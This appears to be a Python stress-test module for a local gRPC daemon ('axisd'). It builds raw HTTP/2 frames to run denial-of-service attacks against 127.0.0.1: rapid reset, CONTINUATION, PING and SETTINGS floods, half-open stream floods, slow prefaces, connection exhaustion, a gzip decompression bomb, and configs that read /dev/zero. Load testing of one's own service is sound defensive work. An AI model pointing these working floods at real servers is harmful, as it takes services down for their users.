"""How clients misbehave, for siege_bench.py. Each attack goes on until a time, and counts what it got through."""
import contextlib
import itertools
import os
import pathlib
import random
import resource
import socket
import ssl
import struct
import sys
import time
import zlib

import grpc

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[1] / "e2e"))
from client import package  # noqa: E402

package.load()
from axisd.v1 import (axis_service_pb2, axis_service_pb2_grpc, group_service_pb2, group_service_pb2_grpc,  # noqa: E402
                      lease_service_pb2, lease_service_pb2_grpc, stop_service_pb2_grpc, system_service_pb2,
                      system_service_pb2_grpc)

AXES = 8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A header field of HPACK, neither indexed nor compressed."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def kept(name, value):
    """The same, and both ends keep it in their tables."""
    return b"\x40" + literal(name, value)[1:]


def request_to(path, field=literal):
    return b"\x83\x86" + field(b":path", path) + field(b":authority", b"axisd") + \
        field(b"content-type", b"application/grpc") + field(b"te", b"trailers")


REQUEST = request_to(b"/axisd.v1.SystemService/GetInfo")
#: The same in six bytes, after a request whose fields are kept.
REQUEST_KEPT = request_to(b"/axisd.v1.SystemService/GetInfo", kept)
REQUEST_AGAIN = b"\x83\x86\xc1\xc0\xbf\xbe"
WATCH = request_to(b"/grpc.health.v1.Health/Watch")
REFLECT = request_to(b"/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo")


class Door:
    """One address of the daemon, and how clients come in there: by certificates, the one of that name, or without TLS."""

    def __init__(self, port, certificates=None, name="client"):
        self.port, self.certificates, self.name = port, certificates, name

    def of(self, name):
        """The same for somebody else."""
        return Door(self.port, self.certificates, name)

    def connect(self):
        return socket.create_connection(("127.0.0.1", self.port), 2)

    def enter(self):
        """A connection on which HTTP/2 can be spoken."""
        peer = self.connect()
        if self.certificates is None:
            return peer
        context = ssl.create_default_context(cafile=self.certificates.path("crt"))
        context.load_cert_chain(self.certificates.path("crt", self.name), self.certificates.path("key", self.name))
        context.set_alpn_protocols(["h2"])
        return context.wrap_socket(peer, server_hostname="localhost")

    def channel(self):
        options = [("grpc.use_local_subchannel_pool", 1), ("grpc.initial_reconnect_backoff_ms", 100),
                   ("grpc.max_reconnect_backoff_ms", 200)]
        if self.certificates is None:
            return grpc.insecure_channel(f"127.0.0.1:{self.port}", options)
        read = self.certificates.read
        credentials = grpc.ssl_channel_credentials(read("crt"), read("key", self.name), read("crt", self.name))
        return grpc.secure_channel(f"localhost:{self.port}", credentials, options)


def flood(make, opening=b""):
    """Sends what `make` gives for streams from 3 on, as fast as it is taken; connects anew whenever it is cut off."""
    def attack(door, until, count):
        while time.monotonic() < until:
            with contextlib.suppress(OSError), door.enter() as peer:
                peer.settimeout(0.2)
                peer.sendall(PREFACE + frame(4, 0, 0) + opening)
                stream = 3
                while time.monotonic() < until and stream < 2**31 - 2000:
                    peer.sendall(b"".join(make(stream + 2 * i) for i in range(200)))
                    count(200)
                    stream += 400
                    peer.settimeout(0)
                    with contextlib.suppress(BlockingIOError, ssl.SSLWantReadError):
                        while peer.recv(65536):
                            pass
                    peer.settimeout(0.2)
    return attack


rapid_reset = flood(lambda stream: frame(1, 4, stream, REQUEST) + frame(3, 0, stream, b"\0\0\0\x08"))
pings = flood(lambda _: frame(6, 0, 0, b"12345678"))
settings = flood(lambda _: frame(4, 0, 0))
continuation = flood(lambda _: frame(9, 0, 1, b"\x83" * 100), frame(1, 0, 1, b"\x83"))
half_open = flood(lambda stream: frame(1, 4, stream, REQUEST))
short_half_open = flood(lambda stream: frame(1, 4, stream, REQUEST_AGAIN), frame(1, 4, 1, REQUEST_KEPT))
#: Streams that never end, each with its empty message.
watchers = flood(lambda stream: frame(1, 4, stream, WATCH) + frame(0, 1, stream, bytes(5)))
reflections = flood(lambda stream: frame(1, 4, stream, REFLECT) + frame(0, 0, stream, bytes(5)))


def garbage(door, until, count):
    chance = random.Random(7)
    while time.monotonic() < until:
        with contextlib.suppress(OSError), door.connect() as peer:
            peer.sendall(chance.randbytes(4096))
            count()


def garbage_inside(door, until, count):
    """By somebody with a certificate."""
    chance = random.Random(7)
    while time.monotonic() < until:
        with contextlib.suppress(OSError), door.enter() as peer:
            peer.sendall(PREFACE + chance.randbytes(4096))
            count()


def crowd(most, begin):
    """Keeps as many connections as it gets of `most`, each of which says what `begin` gives once, and then nothing."""
    def attack(door, until, count):
        peers = []
        while time.monotonic() < until:
            with contextlib.suppress(OSError):
                peers.append(door.enter() if begin else door.connect())
                if begin:
                    peers[-1].sendall(begin)
                count()
            if len(peers) >= most:
                if begin:  # until they are thrown out
                    time.sleep(1)
                for peer in peers:
                    peer.close()
                peers = []
        for peer in peers:
            peer.close()
    return attack


def few_each(request, again, message=b""):
    """A crowd of which each has 17 streams: of `request`, and then of `again`, each with this message or none."""
    streams = b"".join(frame(1, 4, stream, request if stream == 1 else again) + (frame(0, 0, stream, message) if message else b"")
                       for stream in range(1, 35, 2))
    return crowd(95, PREFACE + frame(4, 0, 0) + streams)


def burst_then_end(door, until, count):
    """Half-open streams of 15 bytes, as many as there is room for, and the end at once; again and again."""
    number = 6000
    burst = PREFACE + frame(4, 0, 0) + frame(1, 4, 1, REQUEST_KEPT) + \
        b"".join(frame(1, 4, 1 + 2 * each, REQUEST_AGAIN) for each in range(1, number))
    while time.monotonic() < until:
        with contextlib.suppress(OSError), door.enter() as peer:
            peer.settimeout(0.2)
            peer.sendall(burst)
            peer.shutdown(socket.SHUT_WR)
            count(number)


def slow_prefaces(door, until, count):
    """500 connections that send a byte of the preface each second."""
    peers, sent = [], 0
    while time.monotonic() < until:
        while len(peers) < 500 and time.monotonic() < until:
            with contextlib.suppress(OSError):
                peers.append(door.connect())
        for peer in list(peers):
            try:
                peer.sendall(PREFACE[sent:sent + 1])
                count()
            except OSError:
                peer.close()
                peers.remove(peer)
        sent = (sent + 1) % len(PREFACE)
        time.sleep(1)
    for peer in peers:
        peer.close()


def zeros(megabytes):
    """So many of them, as gzip packs them; of one megabyte, and that again and again, which is soon done."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    one = packer.compress(bytes(1_000_000)) + packer.flush(zlib.Z_FULL_FLUSH)
    check = 0
    for _ in range(megabytes):
        check = zlib.crc32(bytes(1_000_000), check)
    return b"\x1f\x8b\x08" + bytes(7) + one * megabytes + packer.flush() + \
        struct.pack("<II", check, megabytes * 1_000_000)


class Sender:
    """Sends the messages of streams, as far as the daemon takes them."""

    def __init__(self, peer):
        self._peer, self._unread = peer, b""
        self._first, self._window, self._left = 65535, 65535, 0  # of a new stream, of the connection, of this stream

    def send(self, stream, headers, body):
        """Until all is sent, or the stream has been ended."""
        self._peer.sendall(frame(1, 4, stream, headers))
        self._left = self._first
        while body:
            size = min(16384, len(body), self._window, self._left)
            if size > 0:
                self._peer.sendall(frame(0, size == len(body), stream, body[:size]))
                body, self._window, self._left = body[size:], self._window - size, self._left - size
            elif not self._listen(stream):
                return

    def _listen(self, stream):
        """To what the daemon says next. False: it wants no more of this stream."""
        data = self._peer.recv(65536)
        if not data:
            raise ConnectionError
        self._unread += data
        goes_on = True
        while len(self._unread) >= 9 + (size := int.from_bytes(self._unread[:3], "big")):
            kind, flags, whose = self._unread[3], self._unread[4], int.from_bytes(self._unread[5:9], "big")
            payload, self._unread = self._unread[9:9 + size], self._unread[9 + size:]
            if kind == 8 and whose == 0:
                self._window += int.from_bytes(payload, "big")
            elif kind == 8 and whose == stream:
                self._left += int.from_bytes(payload, "big")
            elif kind == 4 and not flags & 1:
                first = dict(struct.iter_unpack(">HI", payload)).get(4, self._first)
                self._left += first - self._first
                self._first = first
                self._peer.sendall(frame(4, 1, 0))
            elif kind == 6 and not flags & 1:
                self._peer.sendall(frame(6, 1, 0, payload))
            elif whose == stream and (kind == 3 or kind == 1 and flags & 1):
                goes_on = False
        return goes_on


def compressed(door, until, count):
    """Messages of 200 KB that unpack to 200 MB."""
    bomb = zeros(200)
    headers = REQUEST + literal(b"grpc-encoding", b"gzip")
    body = b"\x01" + struct.pack(">I", len(bomb)) + bomb
    while time.monotonic() < until:
        with contextlib.suppress(OSError), door.enter() as peer:
            peer.settimeout(2)
            peer.sendall(PREFACE + frame(4, 0, 0))
            sender = Sender(peer)
            for stream in range(1, 200, 2):
                if time.monotonic() >= until:
                    break
                sender.send(stream, headers, body)
                count()


def calls(stub, method, requests):
    """32 calls at once, of the requests that `requests()` gives one after the other."""
    def attack(door, until, count):
        following = requests()
        with door.channel() as channel:
            ask = getattr(stub(channel), method)
            waiting = []
            while time.monotonic() < until:
                waiting.append(ask.future(next(following), timeout=10))
                if len(waiting) >= 32:
                    with contextlib.suppress(grpc.RpcError, grpc.FutureTimeoutError):
                        waiting.pop(0).result(timeout=max(0.1, until - time.monotonic()))
                    count()
    return attack


def unknown_names(number):
    """In each message so many."""
    return calls(group_service_pb2_grpc.GroupServiceStub, "GroupStop", lambda: itertools.repeat(
        group_service_pb2.GroupStopRequest(axes=[f"x{n}" for n in range(number)])))


def taken_leases():
    """Who comes and takes a lease, and comes again."""
    for axis in itertools.cycle(f"axis-{n + 1}" for n in range(AXES)):
        yield lease_service_pb2.AcquireLeaseRequest(axes=[axis], ttl={"seconds": 1})


def stops_of_all():
    """By others who are the same client: on one computer, without TLS."""
    return itertools.repeat(group_service_pb2.GroupStopRequest(axes=[f"axis-{n + 1}" for n in range(AXES)]))


def new_ids():
    """Moves to where the axis is, each with an id of its own, which has to be remembered."""
    for number in itertools.count():
        yield axis_service_pb2.MoveRelativeRequest(axis=f"axis-{AXES}", distance=0, options={
            "request_id": f"{os.getpid()}-{number}"})


def checked(text):
    return itertools.repeat(system_service_pb2.CheckConfigRequest(yaml=text))


def endless_files():
    """Configurations whose data sheet never ends, or never begins."""
    texts = ["machine: m\nbuses: { net: { canopen: { interface: can0, bitrate: 500000 } } }\naxes:\n  a: { bus: net, "
             f"node: 1, model: cia402, drive: {{ eds: {path} }}, unit: rev, scale: {{ microstep: 4096 pulses/rev }}, "
             "limits: { velocity: 1 rev/s } }\n" for path in ("/dev/ptmx", "/dev/zero", "/dev/tty", "endless.eds")]
    return itertools.cycle(system_service_pb2.CheckConfigRequest(yaml=text) for text in texts)


class Attack:
    """What two processes do at the main address, and, if they can there, at the stop lane; over TLS or without. `stops`:
    they stop axes, too."""

    def __init__(self, do, at_lane=True, tls=False, at_main=True, stops=False):
        self.do, self.at_lane, self.tls, self.at_main, self.stops = do, at_lane, tls, at_main, stops

    def places(self):
        """False: the main address; True: the stop lane."""
        return [lane for lane in (False, True) if (self.at_lane if lane else self.at_main)]


SYSTEM, AXIS = system_service_pb2_grpc.SystemServiceStub, axis_service_pb2_grpc.AxisServiceStub
ATTACKS = {
    "nobody": Attack(None, at_lane=False), "nobody, TLS": Attack(None, at_lane=False, tls=True),
    "10,000 silent connections": Attack(crowd(5000, None)),
    "silent connections, TLS": Attack(crowd(5000, None), tls=True),
    "320 idle connections": Attack(crowd(160, PREFACE + frame(4, 0, 0))),
    "slow prefaces": Attack(slow_prefaces),
    "garbage": Attack(garbage), "garbage, TLS": Attack(garbage, tls=True),
    "garbage inside TLS": Attack(garbage_inside, tls=True),
    "PING flood": Attack(pings), "SETTINGS flood": Attack(settings), "CONTINUATION flood": Attack(continuation),
    "half-open streams": Attack(half_open), "half-open streams of 15 bytes": Attack(short_half_open),
    "rapid reset": Attack(rapid_reset), "rapid reset, TLS": Attack(rapid_reset, tls=True),
    "half-open streams, a few each": Attack(few_each(REQUEST_KEPT, REQUEST_AGAIN), at_lane=False),
    "half-open streams, then the end": Attack(burst_then_end, at_lane=False),
    "health watchers": Attack(watchers, at_lane=False), "reflection streams": Attack(reflections, at_lane=False),
    "reflection streams, a few each": Attack(few_each(REFLECT, REFLECT), at_lane=False),
    "group stops": Attack(calls(stop_service_pb2_grpc.StopServiceStub, "GroupStop", stops_of_all), at_main=False,
                          stops=True),
    "compressed messages": Attack(compressed),
    "1,000 leases": Attack(calls(lease_service_pb2_grpc.LeaseServiceStub, "AcquireLease", taken_leases), at_lane=False,
                           stops=True),  # that end
    "30,000 unknown names": Attack(unknown_names(30_000), at_lane=False),
    "1,000,000 unknown names": Attack(unknown_names(1_000_000), at_lane=False),
    "CheckConfig of 180 KB": Attack(calls(SYSTEM, "CheckConfig", lambda: checked("a: [" + "1, " * 60_000 + "1]")),
                                    at_lane=False),
    "CheckConfig of /dev/ptmx": Attack(calls(SYSTEM, "CheckConfig", endless_files), at_lane=False),
    "request ids, TLS": Attack(calls(AXIS, "MoveRelative", new_ids), at_lane=False, tls=True, stops=True)}


def besiege(name, door, until, counter):
    """The attack, in a process that leaves this computer's processors to the others, as if it were on another one."""
    os.nice(10)
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))

    def count(number=1):
        with counter.get_lock():
            counter.value += number
    ATTACKS[name].do(door.of("attacker"), until, count)
